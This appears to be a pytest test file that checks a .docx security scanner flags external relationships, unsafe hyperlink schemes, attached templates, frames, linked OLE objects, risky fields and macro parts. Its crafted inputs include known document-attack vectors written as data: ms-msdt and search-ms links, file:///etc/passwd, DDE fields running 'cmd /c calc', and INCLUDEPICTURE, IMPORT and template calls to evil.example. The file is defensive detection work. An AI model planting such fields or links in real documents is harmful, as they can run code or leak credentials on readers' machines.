"""`tjs check` flags risky content (issue 9) in crafted documents, and none in ours."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from accessibility_docs import (
    CT,
    EXAMPLE,
    NS,
    add_relationship,
    body_paragraph,
    complex_field,
    craft,
    w,
)
from lxml import etree
from samples import run_tjs

from tjansteskrivelse.accessibility import Finding, check_document
from tjansteskrivelse.accessibility.security import field_instructions

DOC_RELS = "word/_rels/document.xml.rels"
O_NS = "urn:schemas-microsoft-com:office:office"


@pytest.fixture(scope="module")
def memo(our_outputs: list[Path]) -> Path:
    """The example's memo (read-only; tests craft copies of it)."""
    return next(p for p in our_outputs if p.parent.name == EXAMPLE.stem and "-utdrag-" not in p.name)


def security(path: Path) -> list[Finding]:
    return [f for f in check_document(path) if f.category == "security"]


def test_everything_we_render_is_free_of_risky_content(our_outputs: list[Path]) -> None:
    for document in our_outputs:
        assert security(document) == [], document.name


@pytest.mark.parametrize("kind", ["image", "oleObject", "subDocument", "frame"])
def test_external_relationships_are_flagged(memo: Path, tmp_path: Path, kind: str) -> None:
    target = "http://example.org/x"
    bad = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, kind, target)})
    findings = security(bad)
    assert [f.location for f in findings] == [DOC_RELS]
    assert f"external {kind} relationship" in findings[0].message and target in findings[0].message


@pytest.mark.parametrize(
    "target",
    [
        "ms-msdt:/id PCWDiagnostic",
        "search-ms:query=x&crumb=location:\\\\evil\\share",
        "ms-word:ofe|u|http://x/a.docx",
        "smb://evil/share",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "../../etc/passwd",
        "vbscript:x",
    ],
)
def test_hyperlinks_other_than_http_https_mailto_are_flagged(memo: Path, tmp_path: Path, target: str) -> None:
    bad = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, "hyperlink", target)})
    findings = security(bad)
    assert [f.location for f in findings] == [DOC_RELS]
    assert "only http, https and mailto links are safe" in findings[0].message


@pytest.mark.parametrize("target", ["http://example.org", "HTTPS://example.org/a?b", "mailto:a@example.org"])
def test_safe_hyperlinks_pass(memo: Path, tmp_path: Path, target: str) -> None:
    fine = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, "hyperlink", target)})
    assert security(fine) == []


def test_long_values_are_shortened_in_messages(memo: Path, tmp_path: Path) -> None:
    target = "smb://server/" + "hemlig-" * 100
    bad = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, "hyperlink", target)})
    message = security(bad)[0].message
    assert "hemlig-" * 9 not in message and "…" in message


def test_attached_template_is_flagged(memo: Path, tmp_path: Path) -> None:
    def attach(settings: etree._Element) -> None:
        template = etree.Element(w("attachedTemplate"))
        template.set(f"{{{NS['r']}}}id", "rIdT")
        settings.insert(3, template)

    bad = craft(
        memo,
        tmp_path / "x.docx",
        {"word/settings.xml": attach},
        add={
            "word/_rels/settings.xml.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rIdT" TargetMode="External" Target="http://evil.example/t.dotm" Type='
                b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
            )
        },
    )
    findings = security(bad)
    assert [f.location for f in findings] == ["word/_rels/settings.xml.rels", "word/settings.xml"]
    assert "external attachedTemplate relationship" in findings[0].message
    assert "w:attachedTemplate" in findings[1].message


@pytest.mark.parametrize("tag", ["frameset", "frame"])
def test_frames_in_web_settings_are_flagged(memo: Path, tmp_path: Path, tag: str) -> None:
    def frames(web: etree._Element) -> None:
        frameset = etree.SubElement(web, w("frameset"))
        if tag == "frame":
            web.remove(frameset)
            frameset = etree.SubElement(web, w("frame"))
        etree.SubElement(frameset, w("sourceFileName")).set(f"{{{NS['r']}}}id", "rIdF")

    findings = security(craft(memo, tmp_path / "x.docx", {"word/webSettings.xml": frames}))
    assert [f.location for f in findings] == ["word/webSettings.xml"]
    assert f"frames (w:{tag})" in findings[0].message


def test_linked_ole_object_is_flagged_and_embedded_one_is_not(memo: Path, tmp_path: Path) -> None:
    def ole(kind: str) -> Callable[[etree._Element], None]:
        def edit(document: etree._Element) -> None:
            run = etree.SubElement(body_paragraph(document), w("r"))
            element = etree.SubElement(etree.SubElement(run, w("object")), f"{{{O_NS}}}OLEObject")
            element.set("Type", kind)
            element.set("ProgID", "Excel.Sheet.12")

        return edit

    findings = security(craft(memo, tmp_path / "link.docx", {"word/document.xml": ole("Link")}))
    assert [f.location for f in findings] == ["word/document.xml"]
    assert 'linked object ("Excel.Sheet.12")' in findings[0].message
    assert security(craft(memo, tmp_path / "embed.docx", {"word/document.xml": ole("Embed")})) == []


RISKY = [
    'INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx"',
    'INCLUDEPICTURE "http://evil.example/p.png" \\d',
    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Blad1"',
    'DDE cmd "/c calc" x',
    'DDEAUTO cmd "/c calc"',
    'IMPORT "http://evil.example/i.wmf"',
    'HYPERLINK "ms-msdt:/id PCWDiagnostic"',
]


@pytest.mark.parametrize("simple", [True, False], ids=["fldSimple", "complex"])
@pytest.mark.parametrize("instruction", RISKY, ids=lambda i: i.split()[0] + i.split()[1][:8])
def test_risky_fields_are_flagged(memo: Path, tmp_path: Path, instruction: str, simple: bool) -> None:
    def field(document: etree._Element) -> None:
        paragraph = body_paragraph(document)
        if simple:
            etree.SubElement(paragraph, w("fldSimple")).set(w("instr"), f" {instruction} ")
        else:  # split mid-keyword, as Word does after edits
            complex_field(paragraph, " " + instruction[:3], instruction[3:9], instruction[9:] + " ")

    findings = security(craft(memo, tmp_path / "x.docx", {"word/document.xml": field}))
    assert [f.location for f in findings] == ["word/document.xml"]
    keyword = instruction.split()[0]
    expected = "ms-msdt:" if keyword == "HYPERLINK" else f"a {keyword} field"
    assert expected in findings[0].message


def test_field_in_a_header_is_flagged(memo: Path, tmp_path: Path) -> None:
    def field(header: etree._Element) -> None:
        complex_field(header.find("w:p", NS), "INCLUDEPICTURE ", '"http://evil.example/p.png"')

    findings = security(craft(memo, tmp_path / "x.docx", {"word/header1.xml": field}))
    assert [f.location for f in findings] == ["word/header1.xml"]


def test_nested_field_instructions_belong_to_the_innermost_field() -> None:
    paragraph = etree.Element(w("p"))
    complex_field(paragraph, "IF 1 = 1 ")
    inner = etree.Element(w("p"))
    complex_field(inner, "INCLUDE", "TEXT x")
    # Put the inner field's runs right after the outer field's instruction.
    position = 2
    for run in list(inner):
        paragraph.insert(position, run)
        position += 1
    assert sorted(field_instructions(paragraph)) == ["IF 1 = 1 ", "INCLUDETEXT x"]


def test_page_fields_are_not_risky(memo: Path, tmp_path: Path) -> None:
    def field(document: etree._Element) -> None:
        complex_field(body_paragraph(document), " PAGE ", "\\* MERGEFORMAT ")

    assert security(craft(memo, tmp_path / "x.docx", {"word/document.xml": field})) == []


def override(part: str, content_type: str) -> Callable[[etree._Element], None]:
    def edit(types: etree._Element) -> None:
        etree.SubElement(types, f"{{{CT}}}Override", PartName=part, ContentType=content_type)

    return edit


def test_macro_parts_are_flagged(memo: Path, tmp_path: Path) -> None:
    bad = craft(
        memo,
        tmp_path / "x.docx",
        {"[Content_Types].xml": override("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")},
        add={
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            "word/vbaData.xml": b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        },
    )
    locations = [f.location for f in security(bad)]
    assert locations == ["word/vbaData.xml", "word/vbaProject.bin", "[Content_Types].xml"]


def test_macro_enabled_main_part_is_flagged(memo: Path, tmp_path: Path) -> None:
    def docm(types: etree._Element) -> None:
        for entry in types.iterfind("ct:Override", NS):
            if entry.get("PartName") == "/word/document.xml":
                entry.set("ContentType", "application/vnd.ms-word.document.macroEnabled.main+xml")

    findings = security(craft(memo, tmp_path / "x.docx", {"[Content_Types].xml": docm}))
    assert [f.location for f in findings] == ["[Content_Types].xml"]
    assert "macro-enabled" in findings[0].message


def test_tjs_check_reports_risky_content_as_security(memo: Path, tmp_path: Path, capsys) -> None:
    bad = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, "hyperlink", "smb://x/y")})
    code, _, err = run_tjs(capsys, "check", str(bad))
    assert code == 1
    assert f'{bad}: {DOC_RELS}: security: a hyperlink to "smb://x/y"' in err
